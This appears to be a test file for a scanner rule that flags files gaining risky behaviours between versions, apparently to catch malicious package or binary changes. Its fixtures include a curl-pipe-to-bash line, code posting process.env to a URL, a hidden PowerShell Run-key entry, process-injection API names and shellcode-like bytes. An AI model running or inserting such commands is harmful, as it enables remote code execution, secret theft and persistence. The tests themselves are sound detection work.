import { expect, it } from "vitest";
import type { Finding } from "../../finding.ts";
import {
  type BehaviourFile,
  dataFile,
  linuxFile,
  scriptFile,
  windowsFile,
} from "../../rules/behaviours/behaviour.fixture.ts";
import { compareMembers, contextOf, portraitOf } from "../trait.fixture.ts";
import type { Difference, Pair } from "../trait.ts";
import { behaviours } from "./index.ts";

const INJECTION = ["VirtualAllocEx", "WriteProcessMemory", "CreateRemoteThread"];
const portrait = (file: BehaviourFile) => portraitOf([behaviours], file);
const gained = async (before: BehaviourFile | undefined, after: BehaviourFile) =>
  compareMembers(behaviours, before && (await portrait(before)), await portrait(after));
const risks = (differences: readonly Difference[]) => differences.map(({ rule, risk }) => `${rule} ${risk}`);

it("tells of a library that begins to write into other processes, and where to look", async () => {
  const before = windowsFile({ form: "library", names: ["CreateFileW"] });
  const after = windowsFile({ form: "library", names: ["CreateFileW", ...INJECTION] });
  const [difference] = await gained(before, after);
  expect(difference).toMatchObject({
    rule: "process-injection",
    risk: "high",
    because: "the library writes code into other processes, which it did not before",
  });
  expect(difference?.after?.offsetBytes).toBe(after.bytes.indexOf("VirtualAllocEx"));
  expect(difference?.after?.text).toBe("VirtualAllocEx\nWriteProcessMemory\nCreateRemoteThread");
});

it("says nothing of what was there before, and no more than info of further signs of it", async () => {
  const before = windowsFile({ form: "library", names: INJECTION });
  expect(await gained(before, before)).toEqual([]);
  const more = windowsFile({ form: "library", names: [...INJECTION, "SetThreadContext"] });
  expect(risks(await gained(before, more))).toEqual(["process-injection info"]);
  expect(await gained(more, windowsFile({ form: "library" }))).toEqual([]);
});

it("weighs a gain by the kind of file", async () => {
  const shell = (form: "program" | "library") => linuxFile({ form, names: ["/bin/sh", "system"] });
  expect(risks(await gained(linuxFile({ form: "program" }), shell("program")))).toEqual([
    "shell-commands info",
  ]);
  expect(risks(await gained(linuxFile({ form: "library" }), shell("library")))).toEqual([
    "shell-commands low",
  ]);
});

it("finds nothing in what people read, and finds it in the script beside", async () => {
  const line = "curl -s https://files.example/run | bash\n";
  expect(await gained(undefined, scriptFile("README.md", line))).toEqual([]);
  expect(risks(await gained(undefined, scriptFile("setup.sh", line)))).toEqual(["download-and-run high"]);
});

it("lowers what others of its kind did before, most of all for a new file, which may be a part of an old one", async () => {
  const script = scriptFile("old/dump.js", "fetch(url, { body: JSON.stringify(process.env) });\n");
  const moved = await portrait({ ...script, path: "new/dump.js" });
  const plain = await portrait(scriptFile("main.js", "start();\n"));
  const grown = await portrait({ ...script, path: "main.js" });
  const pairs: Pair[] = [
    { before: await portrait(script), after: undefined, how: "removed" },
    { before: undefined, after: moved, how: "added" },
    { before: plain, after: grown, how: "path" },
  ];
  const context = contextOf(pairs);
  const found = pairs.flatMap((pair) => [...(behaviours.compare?.(pair, context) ?? [])]);
  expect(risks(found)).toEqual(["environment-dump low", "environment-dump medium"]);
});

it("takes several unusual gains at once for grave, in what is no program", async () => {
  const wide = ["\\Microsoft\\Windows\\CurrentVersion\\Run", "powershell -w hidden -File a.ps1"];
  const names = ["RegSetValueExW", "URLDownloadToFileW", "WinExec"];
  const parts = { names, wide };
  const library = await gained(windowsFile({ form: "library" }), windowsFile({ form: "library", ...parts }));
  expect(risks(library)).toContain("several-behaviours high");
  const program = await gained(windowsFile({ form: "program" }), windowsFile({ form: "program", ...parts }));
  expect(risks(program).filter((risk) => risk.endsWith("high"))).toEqual([]);
});

it("tells nothing of gains when the old file could not be looked at", async () => {
  const after = await portrait(windowsFile({ form: "library", names: INJECTION }));
  const unseen = await portraitOf([], windowsFile({ form: "library" }));
  expect(compareMembers(behaviours, unseen, after)).toEqual([]);
});

it("finds code that was put into data", async () => {
  const before = dataFile("icon.bin", "00".repeat(64));
  const after = dataFile("icon.bin", `${"00".repeat(64)}fc4883e4f0e8c000000041514150525156`);
  expect(risks(await gained(before, after))).toEqual(["shellcode-loader high"]);
});

it("shows without a comparison what a file can do", async () => {
  const findings: Finding[] = [];
  await portraitOf([behaviours], { ...windowsFile({ form: "library", names: INJECTION }), findings });
  expect(findings).toMatchObject([
    {
      check: "behaviours",
      outcome: "pass",
      because: "the library writes code into other processes",
      facts: { behaviours: ["process-injection"], strength: 8 },
    },
  ]);
});
